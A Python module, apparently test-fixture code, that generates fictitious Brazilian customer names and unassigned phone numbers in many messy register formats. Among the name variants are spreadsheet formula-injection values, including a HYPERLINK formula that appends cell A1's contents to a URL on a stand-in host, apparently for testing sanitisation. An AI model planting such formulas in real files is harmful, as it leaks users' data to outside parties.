"""Makes up names (``make_name``) and phones that reach nobody (``make_phones``).

Every phone has the form of a valid one and belongs to no operator. Mobiles are ``DDD 9 00XX-XXXX``:
no operator has a series that begins with 90. A mobile without its ninth digit has to begin with 6
to 9, so it is taken from ``(68) 60XX``: Acre's mobiles are in the series 98 and 99. (The source of
both is the operators' prefixes published with ``phonenumbers``; a test looks the phones up there.)
Landlines are taken from ``(68) 50XX``, as Acre's begin with 3.
"""

from collections.abc import Callable
from enum import StrEnum
from random import Random


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_FIRST_NAMES = _words(
    "Adriana Alan Amanda Ana Antônio Aparecida Beatriz Bruno Caio Camila Carlos Cecília Cláudio "
    "Daniela Débora Diego Edson Eduardo Elaine Fabiana Felipe Fernanda Flávio Francisca Gabriel "
    "Geraldo Gilberto Gustavo Helena Hugo Inês Isabela Jéssica João Joana José Juliana Larissa "
    "Leandro Letícia Lúcia Luiz Marcelo Márcia Marcos Maria Marina Nair Otávio Patrícia Paulo "
    "Pedro Rafael Raimunda Regina Renato Rita Rosângela Sandra Sebastião Sérgio Simone Tânia "
    "Teresa Tiago Valéria Vera Vicente Vítor Wagner Yara"
)
_SURNAMES = _words(
    "Albuquerque Almeida Alves Amaral Araújo Assunção Barbosa Barros Batista Bezerra Borges "
    "Brandão Camargo Cardoso Carvalho Castro Cavalcante Conceição Costa Cunha Dantas Dias Duarte "
    "Farias Fernandes Ferreira Figueiredo Fonseca Freitas Garcia Gomes Gonçalves Guimarães "
    "Leite Lima Lopes Macedo Machado Magalhães Marques Martins Medeiros Melo Mendes Monteiro "
    "Moraes Moreira Moura Nascimento Nogueira Nunes Oliveira Paiva Peixoto Pereira Pinheiro Pires "
    "Queiroz Ramos Ribeiro Rocha Rodrigues Sales Santana Santos Silva Siqueira Soares Sousa "
    "Teixeira Vasconcelos Viana Vieira"
)
_TRADES = _words(
    "Padaria Mercearia Farmácia Oficina Papelaria Lanchonete Pousada Clínica Floricultura"
)
_LEGAL_FORMS = ("Ltda", "ME", "EIRELI", "S/A", "& Filhos Ltda")
_DDDS = _words(
    "11 19 21 27 31 37 41 44 48 51 54 61 62 65 67 71 75 79 81 82 83 84 85 86 88 91 92 98"
)

Telefones = tuple[str | None, str | None, str | None]


class NameKind(StrEnum):
    """Names how a name is written in the provider's register."""

    MAIUSCULO = "maiusculo"
    COMUM = "comum"
    EMPRESA = "empresa"
    MINUSCULO = "minusculo"
    ACENTOS = "acentos"
    LONGO = "longo"
    BRANCOS = "brancos"
    QUEBRA_DE_LINHA = "quebra_de_linha"
    TABULACAO = "tabulacao"
    ASPAS = "aspas"
    FORMULA = "formula"
    ARROBA = "arroba"
    VAZIO = "vazio"


class PhoneKind(StrEnum):
    """Names what the three phone fields of the register hold, and how it is written."""

    MOVEL = "movel"
    MASCARA = "mascara"
    MAIS_55 = "mais_55"
    ZERO_ZERO_55 = "zero_zero_55"
    COM_ZERO = "com_zero"
    SEM_NONO_DIGITO = "sem_nono_digito"
    SO_FIXO = "so_fixo"
    FIXO_E_MOVEL = "fixo_e_movel"
    LIXO = "lixo"
    LIXO_E_MOVEL = "lixo_e_movel"
    DOIS_NUMEROS = "dois_numeros"
    REPETIDO = "repetido"
    NENHUM = "nenhum"


REPEATED_PHONE = "85900403020"
"""The phone that many customers share: what a clerk types for whoever gives none."""


def _person(rng: Random) -> str:
    surnames = rng.sample(_SURNAMES, k=rng.choice((1, 2, 2, 3)))
    return " ".join([rng.choice(_FIRST_NAMES), *surnames])


def _company(rng: Random) -> str:
    return f"{rng.choice(_TRADES)} {rng.choice(_SURNAMES)} {rng.choice(_LEGAL_FORMS)}"


def _long_name(rng: Random) -> str:
    return f"{_company(rng)} – sucessores de {' e '.join(_person(rng) for _ in range(12))}"


def _split(rng: Random, separator: str) -> str:
    first, rest = _person(rng).split(" ", 1)
    return f"{first}{separator}{rest}"


_NAMES: dict[NameKind, Callable[[Random], str]] = {
    NameKind.MAIUSCULO: lambda rng: _person(rng).upper(),
    NameKind.COMUM: _person,
    NameKind.EMPRESA: lambda rng: _company(rng).upper(),
    NameKind.MINUSCULO: lambda rng: _person(rng).lower(),
    NameKind.ACENTOS: lambda rng: f"Conceição Ávila D’Ângelo {rng.choice(_SURNAMES)} Müller Ñuñez",
    NameKind.LONGO: _long_name,
    NameKind.BRANCOS: lambda rng: f"  {_split(rng, '       ')}  ",
    NameKind.QUEBRA_DE_LINHA: lambda rng: _split(rng, "\r\n"),
    NameKind.TABULACAO: lambda rng: _split(rng, "\t"),
    NameKind.ASPAS: lambda rng: f'{rng.choice(_TRADES)} "{rng.choice(_SURNAMES)}", Irmãos; Cia',
    NameKind.FORMULA: lambda rng: (
        '=HYPERLINK("http://planilha.example/?nome="&A1,"' + rng.choice(_FIRST_NAMES) + '")'
    ),
    NameKind.ARROBA: lambda rng: f"@SUM(1+1) {_person(rng)}",
    NameKind.VAZIO: lambda _rng: "",
}


def make_name(kind: NameKind, rng: Random) -> str:
    """Returns the name of one customer, as it is written in the register."""
    return _NAMES[kind](rng)


def _unowned(prefix: str, rng: Random) -> str:
    """Completes a prefix by six digits, with no more than six equal digits in all.

    A phone of seven and more would look like one that was typed to fill the field.
    """
    while True:
        phone = f"{prefix}{rng.randrange(10**6):06}"
        if max(map(phone.count, set(phone))) < 7:
            return phone


def make_mobile(rng: Random) -> str:
    """Returns a mobile that nobody has: eleven digits, the DDD first."""
    return _unowned(f"{rng.choice(_DDDS)}900", rng)


def _landline(rng: Random) -> str:
    return _unowned("6850", rng)


def _without_ninth_digit(rng: Random) -> str:
    return _unowned("6860", rng)


def _masked(mobile: str) -> str:
    return f"({mobile[:2]}) {mobile[2:7]}-{mobile[7:]}"


_PHONES: dict[PhoneKind, Callable[[Random], Telefones]] = {
    PhoneKind.MOVEL: lambda rng: (make_mobile(rng), None, None),
    PhoneKind.MASCARA: lambda rng: (_masked(make_mobile(rng)), "", ""),
    PhoneKind.MAIS_55: lambda rng: (f"+55 {_masked(make_mobile(rng))}", None, None),
    PhoneKind.ZERO_ZERO_55: lambda rng: (f"0055{make_mobile(rng)}", None, None),
    PhoneKind.COM_ZERO: lambda rng: (f"0{make_mobile(rng)}", None, None),
    PhoneKind.SEM_NONO_DIGITO: lambda rng: (_without_ninth_digit(rng), None, None),
    PhoneKind.SO_FIXO: lambda rng: (_landline(rng), None, None),
    PhoneKind.FIXO_E_MOVEL: lambda rng: (_landline(rng), make_mobile(rng), ""),
    PhoneKind.LIXO: lambda _rng: ("NÃO TEM", "00000000000", "123"),
    PhoneKind.LIXO_E_MOVEL: lambda rng: ("11111111111", "", make_mobile(rng)),
    PhoneKind.DOIS_NUMEROS: lambda rng: (
        f"{_masked(make_mobile(rng))} / {_masked(make_mobile(rng))}",
        None,
        None,
    ),
    PhoneKind.REPETIDO: lambda _rng: (REPEATED_PHONE, None, None),
    PhoneKind.NENHUM: lambda _rng: (None, None, None),
}


def make_phones(kind: PhoneKind, rng: Random) -> Telefones:
    """Returns the three phone fields of the register, each a text, ``""`` or None."""
    return _PHONES[kind](rng)
